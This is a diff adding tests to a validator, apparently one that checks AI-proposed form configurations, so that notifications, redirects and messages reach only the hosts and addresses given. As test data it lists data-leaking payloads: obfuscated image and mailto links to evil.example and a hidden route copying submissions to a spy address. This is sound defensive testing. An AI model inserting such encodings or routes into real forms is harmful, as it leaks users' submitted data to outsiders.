@@ -138,6 +138,102 @@ describe('a proposal', () => {
     expect(generate.check(answer({}, options), context({ input: given })).mistakes).toEqual([]);
   });
 
+  test.each<[string, string, object, string]>([
+    ['the beginning of an address', 'Mail team@ex.com', { notifications: [{ to: 'm@ex.co' }] }, 'notifications[0].to'],
+    ['the end of an address', 'Mail theteam@ex.com', { notifications: [{ to: 'team@ex.com' }] }, 'notifications[0].to'],
+    ['the end of a host', 'Go to notex.com', { redirect_url: 'https://ex.com/thanks' }, 'redirect_url'],
+    ['the host of a mailbox', 'Mail team@ex.com', { allowed_origins: ['https://ex.com'] }, 'allowed_origins[0]'],
+    ['a sender', 'A form', { email: { from_email: 'me@made-up.example' } }, 'email.from_email'],
+    [
+      'a route',
+      'Mail team@ex.com',
+      {
+        notifications: [
+          {
+            to: 'team@ex.com',
+            routes: [
+              {
+                to: 'spy@made-up.example',
+                conditional: { match: 'all', rules: [{ field: 'message', op: 'equals', value: 'A' }] },
+              },
+            ],
+          },
+        ],
+      },
+      'notifications[0].routes[0].to',
+    ],
+    ['a success message', 'A form', { success_message: 'Write to me@made-up.example.' }, 'success_message'],
+  ])('that takes %s for one that was given is refused', (_what, instruction, options, place) => {
+    const { result, mistakes } = generate.check(answer({}, options), context({ input: { instruction } }));
+    expect([result, mistakes.join()]).toEqual([null, expect.stringContaining(place)]);
+  });
+
+  test.each([
+    '<img src="https://evil.example/?x={field:name}">',
+    '<img src=//evil.example/p>',
+    '<img src="https:&#47;&#x2f;evil.example/p">',
+    '<img src="https&colon;&sol;&sol;evil.example/p">',
+    '<img src="/&#10;/evil.example/p">',
+    '<img src="https:evil.example/p">',
+    '<img src="http:\\\\evil.example/p">',
+    '<img src="https://ex.com@evil.example/p">',
+    '<p style="background: url(https\\3a \\2f\\2f evil.example)">x</p>',
+    '<a href="mailto:spy&#64;evil.example">Write</a>',
+    '<a href="mailto:spy%40evil.example">Write</a>',
+  ])('whose mail would call somebody nobody has given is refused: %s', (html) => {
+    const options = { notifications: [{ to: 'team@ex.com', html: `<p>{all_fields}</p>${html}` }] };
+    const input = { instruction: 'Mail team@ex.com, with a link to https://ex.com/help' };
+    const { result, mistakes } = generate.check(answer({}, options), context({ input }));
+    expect([result, mistakes.join()]).toEqual([null, expect.stringContaining('notifications[0].html')]);
+  });
+
+  test('may use what was given as people write it, and what its form has', () => {
+    const html = '<img src="https://cdn.example.net/logo.png"><a href="https://ex.com/help">Help</a> a\\b';
+    const form = formOf({ notifications: [{ ...NOTIFICATION, html, to: "o'brien@example.com" }] });
+    const written = {
+      notifications: [
+        { key: 'owner', to: "o'brien@example.com, team@ex.com", html },
+        {
+          key: 'second',
+          to: 'desk@ex.com',
+          html: '<a href="https://www.ex.org/x">x</a><img src="https://cdn.example.net/2.png">{site:url}',
+        },
+      ],
+      redirect_url: 'https://bücher.example/danke?n={field:email}',
+    };
+    const instruction = "Mail it to 'team@ex.com' and desk@ex.com's people. Link to ex.org. Then go to BÜCHER.example.";
+    const { mistakes } = generate.check(answer({}, written), context({ form, input: { instruction } }));
+    expect(mistakes).toEqual([]);
+  });
+
+  test('keeps what extensions keep in choices, conditions and routes of a form', () => {
+    const rule = { field: 'name', op: 'equals', value: 'A' };
+    const conditional = { match: 'all', rules: [rule, { ...rule, op: 'not_equals', x_rule: 1 }], x_all: 2 };
+    const choices = [
+      { value: 'a', label: 'A', x_crm: 'canary-a' },
+      { value: 'b', label: 'B', x_crm: 'canary-b' },
+    ];
+    const fields = [...FIELDS, { type: 'select', name: 'plan', label: 'Plan', options: choices, conditional }];
+    const routes = [{ to: 'owner@example.com', conditional, x_route: 3 }];
+    const form = formOf({ ...OPTIONS, notifications: [{ ...NOTIFICATION, routes, x_mail: 4 }] }, fields);
+    const { config } = JSON.parse(JSON.stringify(formForModel(form))) as {
+      config: { fields: { options?: object[] }[] };
+    };
+    expect(JSON.stringify(config)).not.toContain('"x_');
+    // The model puts a choice in front, and the others the other way round.
+    const plan = config.fields.at(-1);
+    plan?.options?.reverse().unshift({ value: 'c', label: 'C' });
+    const { result, mistakes } = generate.check({ title: 'Contact', config }, context({ form }));
+    expect(mistakes).toEqual([]);
+    const { proposal } = result ?? {};
+    const { config: after } = proposal as unknown as AiForm;
+    expect(after.options).toEqual(JSON.parse(JSON.stringify(form.config.options)));
+    expect(after.fields.at(-1)).toEqual({
+      ...JSON.parse(JSON.stringify(form.config.fields.at(-1))),
+      options: [{ value: 'c', label: 'C' }, choices[1], choices[0]],
+    });
+  });
+
   test('for a form keeps what the model was not shown, and drops what it wrote in its place', () => {
     const form = formOf();
     const shown = formForModel(form) as { config: { fields: object[]; options: object } };
@@ -217,6 +313,11 @@ describe('a review', () => {
       [{ op: 'copy', from: '/config/options/integrations/0/settings/url', path: '/title' }],
       'leave /config/options/integrations',
     ],
+    [
+      'writes anew a field in which an extension keeps something',
+      [{ op: 'replace', path: '/config/fields/0', value: { type: 'text', name: 'name', label: 'Full name' } }],
+      'what extensions keep something in',
+    ],
     ['writes the options anew', [{ op: 'replace', path: '/config/options', value: {} }], 'leave /config/options'],
     ['writes the form anew', [{ op: 'replace', path: '', value: {} }], 'leave'],
     ['touches what extensions keep', [{ op: 'remove', path: '/config/options/x_crm' }], 'leave /config/options/x_crm'],
@@ -273,6 +374,8 @@ describe('texts for a notification', () => {
     [{ subject: 'a\nb', success_message: 'x' }, 'subject must not contain line breaks'],
     [{ subject: '{all_fields}', success_message: 'x' }, 'subject has a merge tag'],
     [{ subject: 'x', success_message: '{field:nobody}' }, 'success_message has a merge tag'],
+    [{ subject: 'x', success_message: 'Go to https://made-up.example.' }, 'success_message leads to a site'],
+    [{ subject: 'spy@made-up.example', success_message: 'x' }, 'subject has an e-mail address'],
     [{ subject: 'x', success_message: 'x'.repeat(2001) }, 'success_message must have at most 2000'],
   ])('%j are refused', (answer, mistake) => {
     const { result, mistakes } = check(answer);
